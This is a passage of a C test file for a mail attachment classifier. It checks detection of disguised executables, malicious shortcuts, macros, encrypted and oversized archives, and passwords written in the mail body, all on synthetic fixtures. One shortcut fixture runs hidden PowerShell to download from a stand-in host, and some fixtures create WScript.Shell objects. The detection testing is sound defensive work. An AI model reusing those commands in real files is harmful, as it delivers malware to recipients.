@@ -1,0 +1,772 @@
+/* test-attachment.c — the attachment classifier on synthetic fixtures: each indicator found,
+ * and not found where it is absent
+ *
+ *   test-attachment --write-corpus DIR   writes the fuzz seed corpus instead of testing
+ */
+#define G_LOG_DOMAIN "test-attachment"
+
+#include "config.h"
+
+#include <locale.h>
+#include <string.h>
+
+#include "taiou.h"
+#include "taiou-attachment-private.h"
+#include "taiou-test-fixtures.h"
+
+static TaiouAttachmentReport *
+classify_full (const char                  *name,
+               GBytes                      *bytes,
+               const char                  *body,
+               const TaiouAttachmentLimits *limits,
+               TaiouIocSet                 *iocs)
+{
+  g_autoptr(GError) error = NULL;
+  TaiouAttachmentContext context = { body, iocs, limits };
+  TaiouAttachmentReport *report;
+
+  report = taiou_attachment_classify_bytes (name, bytes, &context, NULL, &error);
+  g_assert_no_error (error);
+  g_assert_nonnull (report);
+  return report;
+}
+
+static TaiouAttachmentReport *
+classify (const char *name,
+          GBytes     *bytes)
+{
+  return classify_full (name, bytes, NULL, NULL, NULL);
+}
+
+/* The finding with rule_id about the file at path (NULL: the attachment itself). */
+static TaiouFinding *
+finding_at (TaiouAttachmentReport *report,
+            const char            *path,
+            const char            *rule_id)
+{
+  TaiouAttachmentReport *at = path != NULL ? taiou_attachment_report_find (report, path) : report;
+
+  g_assert_nonnull (at);
+  for (guint i = 0; i < at->findings->len; i++)
+    {
+      TaiouFinding *finding = at->findings->pdata[i];
+
+      if (g_strcmp0 (finding->rule_id, rule_id) == 0)
+        {
+          g_assert_cmpstr (finding->object, ==, at->path);
+          return finding;
+        }
+    }
+  return NULL;
+}
+
+static gboolean
+anywhere (TaiouAttachmentReport *report,
+          const char            *rule_id)
+{
+  g_autoptr(GPtrArray) findings = taiou_attachment_report_collect (report);
+
+  for (guint i = 0; i < findings->len; i++)
+    if (g_strcmp0 (((TaiouFinding *) findings->pdata[i])->rule_id, rule_id) == 0)
+      return TRUE;
+  return FALSE;
+}
+
+static char *
+sha256_hex (GBytes *bytes)
+{
+  return g_compute_checksum_for_bytes (G_CHECKSUM_SHA256, bytes);
+}
+
+static void
+test_pe (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GBytes) text = taiou_test_bytes_printf ("お見積りの件、よろしくお願いします。");
+  g_autoptr(TaiouAttachmentReport) report = classify ("setup.exe", pe);
+  g_autoptr(TaiouAttachmentReport) disguised = classify ("見積書.pdf", pe);
+  g_autoptr(TaiouAttachmentReport) plain = classify ("memo.txt", text);
+  g_autofree char *hex = sha256_hex (pe);
+  TaiouFinding *finding;
+
+  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
+  g_assert_cmpstr (report->sha256, ==, hex);
+  g_assert_true (report->complete);
+  g_assert_cmpuint (report->size, ==, g_bytes_get_size (pe));
+  finding = finding_at (report, NULL, "attachment.executable");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 80);
+  g_assert_cmpstr (finding->sha256, ==, hex);
+  g_assert_true (g_utf8_validate (finding->reason_ja, -1, NULL));
+
+  /* Content decides: a program named .pdf is a program, and scores higher. */
+  g_assert_cmpint (disguised->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
+  g_assert_cmpint (finding_at (disguised, NULL, "attachment.executable")->score, ==, 90);
+
+  g_assert_cmpint (plain->type, ==, TAIOU_ATTACHMENT_TYPE_OTHER);
+  g_assert_cmpuint (plain->findings->len, ==, 0);
+  g_assert_cmpint (taiou_attachment_report_get_score (plain), ==, 0);
+}
+
+static void
+test_double_extension (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  const char * const positive[] = { "請求書.pdf.exe", "請求書.pdf          .exe", "Invoice.DOC.js",
+                                    "scan.jpg.scr.", NULL };
+  const char * const negative[] = { "請求書.exe", "report.v2.pdf", "archive.tar.gz", "photo.jpg",
+                                    NULL };
+
+  for (guint i = 0; positive[i] != NULL; i++)
+    {
+      g_autoptr(TaiouAttachmentReport) report = classify (positive[i], pe);
+      TaiouFinding *finding = finding_at (report, NULL, "attachment.double-extension");
+
+      g_assert_nonnull (finding);
+      g_assert_cmpint (finding->score, ==, 90);
+      g_assert_cmpstr (finding->object, ==, positive[i]);
+    }
+  for (guint i = 0; negative[i] != NULL; i++)
+    {
+      g_autoptr(TaiouAttachmentReport) report = classify (negative[i], pe);
+
+      g_assert_null (finding_at (report, NULL, "attachment.double-extension"));
+    }
+}
+
+static void
+test_rtlo (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(TaiouAttachmentReport) report = classify ("invoice\u202Efdp.exe", pe);
+  g_autoptr(TaiouAttachmentReport) plain = classify ("invoice.pdf", pe);
+  TaiouFinding *finding = finding_at (report, NULL, "attachment.rtlo");
+
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 90);
+  /* The evidence shows the control character instead of obeying it. */
+  g_assert_nonnull (strstr (finding->evidence, "<U+202E>"));
+  g_assert_nonnull (strstr (finding->evidence, ".exe"));
+  g_assert_null (strstr (finding->evidence, "\u202E"));
+  g_assert_null (finding_at (plain, NULL, "attachment.rtlo"));
+}
+
+static void
+test_script (void)
+{
+  g_autoptr(GBytes) vbs = taiou_test_bytes_printf ("Set s = CreateObject(\"WScript.Shell\")\n");
+  g_autoptr(TaiouAttachmentReport) report = classify ("run.vbs", vbs);
+  g_autoptr(TaiouAttachmentReport) text = classify ("notes.txt", vbs);
+
+  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_SCRIPT);
+  g_assert_cmpint (finding_at (report, NULL, "attachment.script")->score, ==, 80);
+  /* A text file that talks about scripts is text: names outrank markers when there is a name. */
+  g_assert_cmpint (text->type, ==, TAIOU_ATTACHMENT_TYPE_OTHER);
+  g_assert_null (finding_at (text, NULL, "attachment.script"));
+}
+
+static void
+test_lnk (void)
+{
+  g_autoptr(GBytes) evil = taiou_test_lnk_new ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                                               "-w hidden -c \"iwr http://example.invalid/a\"");
+  g_autoptr(GBytes) tame = taiou_test_lnk_new ("C:\\Windows\\notepad.exe", "readme.txt");
+  g_autoptr(GBytes) text = taiou_test_bytes_printf ("not a shortcut");
+  g_autoptr(TaiouAttachmentReport) report = classify ("請求書.pdf.lnk", evil);
+  g_autoptr(TaiouAttachmentReport) tame_report = classify ("メモ.lnk", tame);
+  g_autoptr(TaiouAttachmentReport) plain = classify ("memo.txt", text);
+  TaiouFinding *finding;
+  TaiouLnkInfo info;
+  gsize length;
+  const guint8 *data = g_bytes_get_data (evil, &length);
+
+  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_LNK);
+  finding = finding_at (report, NULL, "attachment.lnk");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 100);
+  g_assert_nonnull (strstr (finding->evidence, "powershell.exe"));
+  g_assert_nonnull (strstr (finding->evidence, "-w hidden"));
+  g_assert_nonnull (finding_at (report, NULL, "attachment.double-extension"));
+
+  finding = finding_at (tame_report, NULL, "attachment.lnk");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 80);
+  g_assert_nonnull (strstr (finding->evidence, "notepad.exe"));
+
+  g_assert_null (finding_at (plain, NULL, "attachment.lnk"));
+
+  g_assert_true (_taiou_lnk_parse (data, length, &info));
+  g_assert_cmpstr (info.local_base_path, ==,
+                   "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe");
+  g_assert_cmpstr (info.relative_path, ==, ".\\powershell.exe");
+  g_assert_cmpstr (info.arguments, ==, "-w hidden -c \"iwr http://example.invalid/a\"");
+  _taiou_lnk_info_clear (&info);
+
+  /* Every truncation of a shortcut is read without reading past its end (ASan checks). */
+  for (gsize n = 0; n < length; n++)
+    {
+      g_autofree guint8 *copy = g_memdup2 (data, n);
+
+      if (_taiou_lnk_parse (copy, n, &info))
+        _taiou_lnk_info_clear (&info);
+    }
+}
+
+static void
+test_onenote (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GBytes) hta = taiou_test_bytes_printf ("<html><HTA:APPLICATION id=x/><script>"
+                                                   "new ActiveXObject('WScript.Shell')</script>");
+  g_autoptr(GBytes) png = taiou_test_bytes_printf ("\x89PNG\r\n\x1a\n picture bytes");
+  g_autoptr(GBytes) with_pe = taiou_test_onenote_new (pe);
+  g_autoptr(GBytes) with_hta = taiou_test_onenote_new (hta);
+  g_autoptr(GBytes) with_png = taiou_test_onenote_new (png);
+  g_autoptr(TaiouAttachmentReport) report = classify ("お知らせ.one", with_pe);
+  g_autoptr(TaiouAttachmentReport) script = classify ("お知らせ.one", with_hta);
+  g_autoptr(TaiouAttachmentReport) picture = classify ("議事録.one", with_png);
+  TaiouAttachmentReport *member;
+  g_autofree char *pe_hex = sha256_hex (pe);
+
+  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_ONENOTE);
+  g_assert_cmpint (finding_at (report, NULL, "attachment.onenote-embedded")->score, ==, 90);
+  member = taiou_attachment_report_find (report, "お知らせ.one/embedded-file-1");
+  g_assert_nonnull (member);
+  g_assert_cmpint (member->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
+  g_assert_cmpstr (member->sha256, ==, pe_hex);
+  g_assert_nonnull (finding_at (report, "お知らせ.one/embedded-file-1", "attachment.executable"));
+
+  g_assert_nonnull (finding_at (script, NULL, "attachment.onenote-embedded"));
+  g_assert_cmpint (((TaiouAttachmentReport *) script->members->pdata[0])->type, ==,
+                   TAIOU_ATTACHMENT_TYPE_SCRIPT);
+
+  /* Pictures are embedded the same way and are no finding. */
+  g_assert_cmpint (picture->type, ==, TAIOU_ATTACHMENT_TYPE_ONENOTE);
+  g_assert_cmpuint (picture->members->len, ==, 1);
+  g_assert_false (anywhere (picture, "attachment.onenote-embedded"));
+  g_assert_cmpint (taiou_attachment_report_get_score (picture), ==, 0);
+}
+
+static void
+test_ole_macros (void)
+{
+  const char * const word[] = { "Macros/VBA/dir", "Macros/VBA/_VBA_PROJECT", "Macros/VBA/ThisDocument",
+                                "Macros/PROJECT", "WordDocument", "1Table", NULL };
+  const char * const excel[] = { "_VBA_PROJECT_CUR/VBA/dir", "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT",
+                                 "_VBA_PROJECT_CUR/PROJECT", "Workbook", NULL };
+  const char * const bare[] = { "VBA/dir", "PROJECT", NULL };
+  const char * const clean[] = { "WordDocument", "1Table", "\005SummaryInformation", NULL };
+  const char * const dir_only[] = { "VBA/dir", "WordDocument", NULL };
+  g_autoptr(GBytes) doc = taiou_test_ole_new (word, NULL);
+  g_autoptr(GBytes) xls = taiou_test_ole_new (excel, NULL);
+  g_autoptr(GBytes) bin = taiou_test_ole_new (bare, NULL);
+  g_autoptr(GBytes) plain = taiou_test_ole_new (clean, NULL);
+  g_autoptr(GBytes) half = taiou_test_ole_new (dir_only, NULL);
+  g_autoptr(TaiouAttachmentReport) doc_report = classify ("請求書.doc", doc);
+  g_autoptr(TaiouAttachmentReport) xls_report = classify ("請求書.xls", xls);
+  g_autoptr(TaiouAttachmentReport) bin_report = classify ("vbaProject.bin", bin);
+  g_autoptr(TaiouAttachmentReport) plain_report = classify ("議事録.doc", plain);
+  g_autoptr(TaiouAttachmentReport) half_report = classify ("議事録.doc", half);
+  TaiouFinding *finding;
+
+  g_assert_cmpint (doc_report->type, ==, TAIOU_ATTACHMENT_TYPE_OLE_OFFICE);
+  finding = finding_at (doc_report, NULL, "attachment.macro-ole");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 80);
+  g_assert_nonnull (strstr (finding->evidence, "Macros/"));
+  g_assert_nonnull (finding_at (xls_report, NULL, "attachment.macro-ole"));
+  g_assert_nonnull (finding_at (bin_report, NULL, "attachment.macro-ole"));
+
+  g_assert_cmpint (plain_report->type, ==, TAIOU_ATTACHMENT_TYPE_OLE_OFFICE);
+  g_assert_cmpuint (plain_report->findings->len, ==, 0);
+  /* A "dir" stream without its PROJECT is not a VBA project. */
+  g_assert_null (finding_at (half_report, NULL, "attachment.macro-ole"));
+}
+
+static void
+test_xlm_biff (void)
+{
+  const char * const streams[] = { "\005SummaryInformation", NULL };
+  g_autoptr(GBytes) very_hidden = taiou_test_biff_workbook ("Macro1", 1, 2);
+  g_autoptr(GBytes) hidden = taiou_test_biff_workbook ("Auto_Open", 1, 1);
+  g_autoptr(GBytes) worksheet = taiou_test_biff_workbook ("売上", 0, 1);
+  g_autoptr(GBytes) xls1 = taiou_test_ole_new (streams, very_hidden);
+  g_autoptr(GBytes) xls2 = taiou_test_ole_new (streams, hidden);
+  g_autoptr(GBytes) xls3 = taiou_test_ole_new (streams, worksheet);
+  g_autoptr(TaiouAttachmentReport) r1 = classify ("請求書.xls", xls1);
+  g_autoptr(TaiouAttachmentReport) r2 = classify ("請求書.xls", xls2);
+  g_autoptr(TaiouAttachmentReport) r3 = classify ("売上.xls", xls3);
+  g_autoptr(GPtrArray) sheets = NULL;
+  TaiouFinding *finding;
+  gsize length;
+  const guint8 *data = g_bytes_get_data (very_hidden, &length);
+
+  finding = finding_at (r1, NULL, "attachment.xlm-macrosheet");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 95);
+  g_assert_nonnull (strstr (finding->evidence, "“Macro1” (very hidden)"));
+  g_assert_cmpint (finding_at (r2, NULL, "attachment.xlm-macrosheet")->score, ==, 90);
+  g_assert_null (finding_at (r3, NULL, "attachment.xlm-macrosheet"));
+  g_assert_null (finding_at (r3, NULL, "attachment.macro-ole"));
+
+  sheets = _taiou_biff_boundsheets (data, length);
+  g_assert_cmpuint (sheets->len, ==, 2);
+  g_assert_cmpstr (((TaiouBiffSheet *) sheets->pdata[0])->name, ==, "Sheet1");
+  g_assert_cmpint (((TaiouBiffSheet *) sheets->pdata[1])->type, ==, 1);
+  g_assert_cmpint (((TaiouBiffSheet *) sheets->pdata[1])->visibility, ==, 2);
+}
+
+static void
+test_ooxml (void)
+{
+  g_autoptr(GBytes) xlsm = taiou_test_ooxml_new (TRUE, FALSE);
+  g_autoptr(GBytes) xlsx_xlm = taiou_test_ooxml_new (FALSE, TRUE);
+  g_autoptr(GBytes) docx = taiou_test_ooxml_new (FALSE, FALSE);
+  g_autoptr(TaiouAttachmentReport) macro = classify ("請求書.xlsm", xlsm);
+  g_autoptr(TaiouAttachmentReport) xlm = classify ("請求書.xlsx", xlsx_xlm);
+  g_autoptr(TaiouAttachmentReport) clean = classify ("議事録.docx", docx);
+  TaiouFinding *finding;
+
+  g_assert_cmpint (macro->type, ==, TAIOU_ATTACHMENT_TYPE_OOXML_OFFICE);
+  finding = finding_at (macro, NULL, "attachment.macro-ooxml");
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 80);
+  g_assert_nonnull (strstr (finding->evidence, "xl/vbaProject.bin"));
+  g_assert_nonnull (strstr (finding->evidence, "application/vnd.ms-office.vbaProject"));
+  /* The project itself is an OLE file, inspected as a member. */
+  g_assert_nonnull (finding_at (macro, "請求書.xlsm/xl/vbaProject.bin", "attachment.macro-ole"));
+
+  g_assert_nonnull (finding_at (xlm, NULL, "attachment.xlm-macrosheet"));
+  g_assert_null (finding_at (xlm, NULL, "attachment.macro-ooxml"));
+
+  g_assert_cmpint (clean->type, ==, TAIOU_ATTACHMENT_TYPE_OOXML_OFFICE);
+  g_assert_cmpint (taiou_attachment_report_get_score (clean), ==, 0);
+  g_assert_cmpuint (clean->members->len, ==, 2);
+}
+
+static void
+test_zip_nested (void)
+{
+  const char * const word[] = { "Macros/VBA/dir", "Macros/PROJECT", "WordDocument", NULL };
+  g_autoptr(GBytes) doc = taiou_test_ole_new (word, NULL);
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GBytes) inner = taiou_test_zip_of ("請求書.pdf.exe", pe);
+  TaiouTestMember members[] = { { "請求書.doc", doc }, { "inner.zip", inner } };
+  g_autoptr(GBytes) outer = taiou_test_zip_new (members, 2, NULL, NULL);
+  g_autoptr(TaiouAttachmentReport) report = classify ("請求書.zip", outer);
+  g_autoptr(GPtrArray) all = taiou_attachment_report_collect (report);
+  g_autofree char *doc_hex = sha256_hex (doc);
+  TaiouAttachmentReport *member;
+
+  g_assert_cmpint (report->type, ==, TAIOU_ATTACHMENT_TYPE_ZIP);
+  g_assert_cmpuint (report->members->len, ==, 2);
+  g_assert_cmpuint (report->findings->len, ==, 0);
+  member = taiou_attachment_report_find (report, "請求書.zip/請求書.doc");
+  g_assert_nonnull (member);
+  g_assert_cmpstr (member->sha256, ==, doc_hex);
+  g_assert_cmpuint (member->depth, ==, 1);
+  g_assert_nonnull (finding_at (report, "請求書.zip/請求書.doc", "attachment.macro-ole"));
+  g_assert_nonnull (finding_at (report, "請求書.zip/inner.zip/請求書.pdf.exe",
+                                "attachment.double-extension"));
+  g_assert_nonnull (finding_at (report, "請求書.zip/inner.zip/請求書.pdf.exe",
+                                "attachment.executable"));
+  /* Collected highest first. */
+  g_assert_cmpuint (all->len, ==, 3);
+  g_assert_cmpint (((TaiouFinding *) all->pdata[0])->score, ==, 90);
+  g_assert_cmpint (taiou_attachment_report_get_score (report), >=, 90);
+}
+
+static void
+test_zip_encrypted (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GBytes) text = taiou_test_bytes_printf ("hello");
+  TaiouTestMember members[] = { { "請求書.pdf.exe", pe }, { "memo.txt", text } };
+  const char * const methods[] = { "zipcrypt", "aes256" };
+
+  for (guint i = 0; i < G_N_ELEMENTS (methods); i++)
+    {
+      g_autoptr(GBytes) zip = taiou_test_zip_new (members, 2, methods[i], "Kx8fPq2Z");
+      g_autoptr(TaiouAttachmentReport) report = classify ("請求書.zip", zip);
+      TaiouAttachmentReport *member = taiou_attachment_report_find (report, "請求書.zip/請求書.pdf.exe");
+      TaiouFinding *finding = finding_at (report, NULL, "attachment.encrypted-zip");
+
+      g_test_message ("encryption %s", methods[i]);
+      g_assert_nonnull (finding);
+      g_assert_cmpint (finding->score, ==, 60);
+      g_assert_nonnull (strstr (finding->evidence, "請求書.pdf.exe"));
+      g_assert_nonnull (member);
+      g_assert_true (member->encrypted);
+      g_assert_null (member->sha256);
+      /* Names are not encrypted in zips, and they still give the disguise away. */
+      g_assert_nonnull (finding_at (report, "請求書.zip/請求書.pdf.exe", "attachment.double-extension"));
+      g_assert_null (finding_at (report, NULL, "attachment.zip-password-in-body"));
+    }
+  {
+    g_autoptr(GBytes) zip = taiou_test_zip_new (members, 2, NULL, NULL);
+    g_autoptr(TaiouAttachmentReport) report = classify ("請求書.zip", zip);
+
+    g_assert_null (finding_at (report, NULL, "attachment.encrypted-zip"));
+    g_assert_false (((TaiouAttachmentReport *) report->members->pdata[0])->encrypted);
+  }
+}
+
+static void
+test_zip_password_in_body (void)
+{
+  g_autoptr(GBytes) text = taiou_test_bytes_printf ("hello");
+  TaiouTestMember members[] = { { "請求書.doc", text } };
+  g_autoptr(GBytes) encrypted = taiou_test_zip_new (members, 1, "zipcrypt", "Kx8fPq2Z");
+  g_autoptr(GBytes) plain = taiou_test_zip_new (members, 1, NULL, NULL);
+  const char *body = "いつもお世話になっております。\n請求書を送付します。\n\n解凍パスワード：Kx8fPq2Z\n";
+  const char *separate = "請求書を送付します。\nパスワードは別途お送りします。\n";
+  g_autoptr(TaiouAttachmentReport) report = classify_full ("請求書.zip", encrypted, body, NULL, NULL);
+  g_autoptr(TaiouAttachmentReport) later = classify_full ("請求書.zip", encrypted, separate, NULL, NULL);
+  g_autoptr(TaiouAttachmentReport) unencrypted = classify_full ("請求書.zip", plain, body, NULL, NULL);
+  TaiouFinding *finding = finding_at (report, NULL, "attachment.zip-password-in-body");
+
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 80);
+  /* Shown masked: the report may travel further than the mail did. */
+  g_assert_nonnull (strstr (finding->evidence, "Kx******"));
+  g_assert_null (strstr (finding->evidence, "Kx8fPq2Z"));
+  g_assert_null (finding_at (later, NULL, "attachment.zip-password-in-body"));
+  g_assert_nonnull (finding_at (later, NULL, "attachment.encrypted-zip"));
+  g_assert_null (finding_at (unencrypted, NULL, "attachment.zip-password-in-body"));
+}
+
+static void
+test_find_password (void)
+{
+  const struct { const char *body; const char *password; } cases[] = {
+    { "パスワード：Kx8fPq2Z", "Kx8fPq2Z" },
+    { "解凍パスワードは「20221105」です。", "20221105" },
+    { "ＰＷ：ａｂ１２ｃｄ", "ab12cd" },
+    { "ﾊﾟｽﾜｰﾄﾞ: Qw3rty!", "Qw3rty!" },
+    { "Password: hunter22.", "hunter22" },
+    { "The password is Xy7pLm2q", "Xy7pLm2q" },
+    { "【パスワード】\r\n\r\n  Ab12cd34  \r\n", "Ab12cd34" },
+    { "PW=mX9kT2", "mX9kT2" },
+    { "パスワードは別途お送りします。", NULL },
+    { "Password will follow in a separate mail.", NULL },
+    { "Please see the passport copy 12345678.", NULL },
+    { "パスワード：https://example.invalid/pw", NULL },
+    { "pw", NULL },
+    { "", NULL },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *line = NULL;
+      g_autofree char *password = _taiou_attachment_find_password (cases[i].body,
+                                                                   strlen (cases[i].body), &line);
+
+      g_test_message ("body %s", cases[i].body);
+      g_assert_cmpstr (password, ==, cases[i].password);
+      g_assert_true ((line != NULL) == (password != NULL));
+    }
+}
+
+static void
+test_7z_and_iso (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  g_autoptr(GBytes) lnk = taiou_test_lnk_new ("C:\\Windows\\System32\\cmd.exe", "/c echo");
+  TaiouTestMember members[] = { { "請求書.exe", pe }, { "開く.lnk", lnk } };
+  g_autoptr(GBytes) seven = taiou_test_7z_new (members, 2);
+  g_autoptr(GBytes) iso = taiou_test_iso_new (members, 2);
+  g_autoptr(TaiouAttachmentReport) seven_report = classify ("書類.7z", seven);
+  g_autoptr(TaiouAttachmentReport) iso_report = classify ("書類.iso", iso);
+
+  g_assert_cmpint (seven_report->type, ==, TAIOU_ATTACHMENT_TYPE_7Z);
+  g_assert_nonnull (finding_at (seven_report, "書類.7z/請求書.exe", "attachment.executable"));
+  g_assert_cmpint (finding_at (seven_report, "書類.7z/開く.lnk", "attachment.lnk")->score, ==, 100);
+
+  g_assert_cmpint (iso_report->type, ==, TAIOU_ATTACHMENT_TYPE_ISO);
+  g_assert_nonnull (finding_at (iso_report, NULL, "attachment.disk-image"));
+  g_assert_true (anywhere (iso_report, "attachment.executable"));
+  g_assert_true (anywhere (iso_report, "attachment.lnk"));
+}
+
+static void
+test_limits_depth (void)
+{
+  g_autoptr(GBytes) bytes = taiou_test_pe_new ();
+  g_autoptr(TaiouAttachmentReport) report = NULL;
+  g_autoptr(TaiouAttachmentReport) shallow = NULL;
+  TaiouAttachmentReport *deepest;
+
+  for (guint i = 0; i < 7; i++)
+    {
+      g_autofree char *name = g_strdup_printf ("level%u.zip", 7 - i);
+      GBytes *wrapped = taiou_test_zip_of (i == 0 ? "evil.exe" : name, bytes);
+
+      g_bytes_unref (bytes);
+      bytes = wrapped;
+    }
+  report = classify ("level0.zip", bytes);
+  g_assert_true (anywhere (report, "attachment.too-large-to-inspect"));
+  g_assert_false (anywhere (report, "attachment.executable"));
+  deepest = taiou_attachment_report_find (report, "level0.zip/level1.zip/level2.zip/level3.zip/"
+                                                  "level4.zip/level5.zip");
+  g_assert_nonnull (deepest);
+  g_assert_cmpuint (deepest->depth, ==, 5);
+  g_assert_nonnull (finding_at (deepest, NULL, "attachment.too-large-to-inspect"));
+
+  /* Five levels are inspected in full. */
+  g_clear_pointer (&bytes, g_bytes_unref);
+  bytes = taiou_test_pe_new ();
+  for (guint i = 0; i < 5; i++)
+    {
+      GBytes *wrapped = taiou_test_zip_of (i == 0 ? "evil.exe" : "inner.zip", bytes);
+
+      g_bytes_unref (bytes);
+      bytes = wrapped;
+    }
+  shallow = classify ("outer.zip", bytes);
+  g_assert_false (anywhere (shallow, "attachment.too-large-to-inspect"));
+  g_assert_true (anywhere (shallow, "attachment.executable"));
+}
+
+static void
+test_limits_members (void)
+{
+  g_autoptr(GBytes) many = taiou_test_zip_many (TAIOU_ATTACHMENT_DEFAULT_MAX_MEMBERS + 200);
+  g_autoptr(GBytes) few = taiou_test_zip_many (50);
+  g_autoptr(TaiouAttachmentReport) report = classify ("many.zip", many);
+  g_autoptr(TaiouAttachmentReport) fine = classify ("few.zip", few);
+  TaiouFinding *finding = finding_at (report, NULL, "attachment.too-large-to-inspect");
+
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 60);
+  g_assert_cmpuint (report->members->len, ==, TAIOU_ATTACHMENT_DEFAULT_MAX_MEMBERS);
+  g_assert_null (finding_at (fine, NULL, "attachment.too-large-to-inspect"));
+  g_assert_cmpuint (fine->members->len, ==, 50);
+}
+
+static void
+test_limits_bomb (void)
+{
+  TaiouAttachmentLimits limits;
+  g_autoptr(GBytes) bomb = NULL;
+  g_autoptr(GBytes) small = taiou_test_zip_zeros ("data.bin", 1 << 20);
+  g_autoptr(TaiouAttachmentReport) report = NULL;
+  g_autoptr(TaiouAttachmentReport) fine = NULL;
+  TaiouAttachmentReport *member;
+  gint64 start;
+
+  /* 300 MiB of zeros deflate to well under 1 MiB; the default 256 MiB budget stops it. */
+  bomb = taiou_test_zip_zeros ("請求書.doc", G_GUINT64_CONSTANT (300) << 20);
+  g_assert_cmpuint (g_bytes_get_size (bomb), <, 1 << 20);
+  start = g_get_monotonic_time ();
+  report = classify ("bomb.zip", bomb);
+  g_test_message ("300 MiB bomb classified in %.2f s",
+                  (g_get_monotonic_time () - start) / 1e6);
+  member = report->members->pdata[0];
+  g_assert_nonnull (finding_at (member, NULL, "attachment.too-large-to-inspect"));
+  g_assert_false (member->complete);
+  g_assert_null (member->sha256);
+  g_assert_cmpuint (member->size, <=, TAIOU_ATTACHMENT_DEFAULT_MAX_TOTAL_BYTES);
+  /* The zeros read before the stop are padding in their own right. */
+  g_assert_nonnull (finding_at (member, NULL, "attachment.padded"));
+
+  taiou_attachment_limits_init (&limits);
+  limits.max_total_bytes = 4 << 20;
+  fine = classify_full ("small.zip", small, NULL, &limits, NULL);
+  g_assert_false (anywhere (fine, "attachment.too-large-to-inspect"));
+  g_assert_true (((TaiouAttachmentReport *) fine->members->pdata[0])->complete);
+  limits.max_total_bytes = 512 * 1024;
+  g_clear_pointer (&fine, taiou_attachment_report_unref);
+  fine = classify_full ("small.zip", small, NULL, &limits, NULL);
+  g_assert_true (anywhere (fine, "attachment.too-large-to-inspect"));
+}
+
+static TaiouAttachmentReport *
+classify_padded (const char *name,
+                 GBytes     *prefix,
+                 guint64     fill_length)
+{
+  g_autoptr(GInputStream) stream = taiou_test_padded_stream_new (prefix, fill_length, 0);
+  g_autoptr(GError) error = NULL;
+  TaiouAttachmentReport *report;
+
+  report = taiou_attachment_classify_stream (name, stream, NULL, NULL, &error);
+  g_assert_no_error (error);
+  return report;
+}
+
+static void
+test_padded (void)
+{
+  g_autoptr(GBytes) pe = taiou_test_pe_new ();
+  const char * const word[] = { "Macros/VBA/dir", "Macros/PROJECT", "WordDocument", NULL };
+  g_autoptr(GBytes) doc = taiou_test_ole_new (word, NULL);
+  g_autoptr(TaiouAttachmentReport) padded = classify_padded ("請求書.exe", pe, 40 << 20);
+  g_autoptr(TaiouAttachmentReport) padded_doc = classify_padded ("請求書.doc", doc, 40 << 20);
+  g_autoptr(TaiouAttachmentReport) normal = classify_padded ("setup.exe", pe, 1 << 20);
+  TaiouFinding *finding = finding_at (padded, NULL, "attachment.padded");
+
+  g_assert_nonnull (finding);
+  g_assert_cmpint (finding->score, ==, 70);
+  g_assert_cmpuint (padded->size, ==, g_bytes_get_size (pe) + (40 << 20));
+  g_assert_true (padded->complete);
+  g_assert_nonnull (padded->sha256);
+  g_assert_cmpint (padded->type, ==, TAIOU_ATTACHMENT_TYPE_PE);
+  /* The structure before the padding is still inspected. */
+  g_assert_nonnull (finding_at (padded_doc, NULL, "attachment.padded"));
+  g_assert_nonnull (finding_at (padded_doc, NULL, "attachment.macro-ole"));
+  g_assert_null (finding_at (normal, NULL, "attachment.padded"));
+}
+
+/* The spool keeps the file intact where it keeps it, whatever the chunking and the runs. */
+static void
+test_spool (void)
+{
+  g_autoptr(GByteArray) original = g_byte_array_new ();
+  const gsize chunks[] = { 1, 7, 4096, 65536, 1 << 20, 3 << 20 };
+  g_autoptr(GChecksum) checksum = g_checksum_new (G_CHECKSUM_SHA256);
+  guint8 digest[32];
+  gsize digest_len = sizeof digest;
+
+  for (guint i = 0; i < 5000; i++)
+    g_byte_array_append (original, (const guint8 *) "abcabcabc", 1 + i % 9);
+  g_byte_array_set_size (original, original->len + (3 << 20));   /* a 3 MiB zero run inside */
+  memset (original->data + original->len - (3 << 20), 0, 3 << 20);
+  g_byte_array_append (original, (const guint8 *) "tail", 4);
+  g_byte_array_set_size (original, original->len + (5 << 20));   /* and a 5 MiB zero tail */
+  memset (original->data + original->len - (5 << 20), 0, 5 << 20);
+  g_checksum_update (checksum, original->data, original->len);
+  g_checksum_get_digest (checksum, digest, &digest_len);
+
+  for (guint c = 0; c < G_N_ELEMENTS (chunks); c++)
+    {
+      TaiouSpool spool;
+      const guint8 *kept;
+      gsize kept_len;
+      guint64 offset = 0;
+      gsize n;
+      const guint8 *view;
+
+      _taiou_spool_init (&spool, 64 << 20);
+      for (gsize pos = 0; pos < original->len; pos += chunks[c])
+        _taiou_spool_feed (&spool, original->data + pos, MIN (chunks[c], original->len - pos));
+      _taiou_spool_finish (&spool, TRUE);
+
